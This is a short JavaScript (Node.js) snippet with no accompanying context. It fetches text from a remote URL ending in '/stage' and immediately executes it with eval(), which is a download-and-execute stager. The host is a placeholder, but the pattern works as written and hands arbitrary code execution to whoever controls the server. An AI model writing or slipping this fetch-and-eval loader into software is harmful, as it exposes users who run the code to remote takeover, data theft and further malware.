const https = require('https');
https.get('https://cdn.example.invalid/stage', (answer) => {
  let text = '';
  answer.on('data', (chunk) => (text += chunk));
  answer.on('end', () => eval(text));
});
